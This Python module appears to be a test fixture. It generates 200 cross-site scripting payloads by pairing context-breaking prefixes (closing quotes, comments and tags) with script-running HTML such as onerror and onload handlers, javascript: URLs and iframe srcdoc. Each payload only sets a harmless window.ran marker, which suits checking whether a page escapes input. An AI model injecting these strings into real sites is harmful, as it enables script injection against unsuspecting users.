"""Texts that would run as code if a page let them: each sets `window.ran` to its number when it does."""

from itertools import product

NUMBER = 200

# What a page might put a text into: an element, an attribute in either quotes, a comment, a title, a style, a script.
_OUT_OF = ("", '">', "'>", "-->", "</title>", "</style>", "</script>", "</textarea>", "]]>", "{{1}}")

_RUNS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<IMG SRC=x oNeRrOr={}>",
    "<svg/onload={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video src=x onerror={}>",
    "<audio src=x onerror={}>",
    "<a href=javascript:{}>x</a>",
    "<iframe src=javascript:parent.{}>",
    '<iframe srcdoc="<script>parent.{}</script>">',
    "<math><mtext><img src=x onerror={}>",
    "<p onmouseover={}>x",
    "<style onload={}></style>",
    "<object data=javascript:{}>",
    "<svg><script>{}</script></svg>",
    '" onmouseover={} x="',
    "' autofocus onfocus={} x='",
    "javascript:{}",
    "${{{}}}",
)


def payloads() -> list[str]:
    """Return 200 different ones, none longer than a name may be."""
    texts = [out + runs.format(f"ran={number}") for number, (runs, out) in enumerate(product(_RUNS, _OUT_OF), start=1)]
    return [text for text in texts if len(text) <= 100][:NUMBER]
